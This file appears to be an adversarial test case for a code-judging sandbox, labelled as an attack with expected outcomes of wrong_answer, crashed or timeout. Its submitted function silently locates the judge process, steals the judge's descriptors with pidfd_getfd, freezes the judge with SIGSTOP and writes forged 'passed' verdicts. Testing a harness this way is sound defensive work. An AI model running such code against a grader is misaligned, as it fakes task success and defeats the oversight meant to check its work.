# attack: Copies the judge's verdict and control descriptors with pidfd_getfd, stops the judge and speaks in its place
# expect: wrong_answer, crashed, timeout
import ctypes
import json
import os
import signal

syscall = ctypes.CDLL(None).syscall
PIDFD_OPEN, PIDFD_GETFD = 434, 438


def speak_for(judge):
    pidfd = syscall(PIDFD_OPEN, judge, 0)
    verdicts = os.fdopen(syscall(PIDFD_GETFD, pidfd, 4, 0), 'wb', closefd=False)
    os.kill(judge, signal.SIGSTOP)
    for job in range(1, 400):
        word = json.dumps({'id': job, 'verdict': 'passed'}).encode()
        verdicts.write(len(word).to_bytes(4, 'big') + word)
    verdicts.flush()
    for number in range(5, 16):
        try:
            os.write(syscall(PIDFD_GETFD, pidfd, number, 0), bytes(8) + b'\1')
        except OSError:
            pass


def f(x):
    try:
        parent = os.getppid()
        with open(f'/proc/{parent}/task/{parent}/children') as children:
            speak_for(next(pid for pid in map(int, children.read().split()) if pid != os.getpid()))
    except Exception:
        pass
    return None
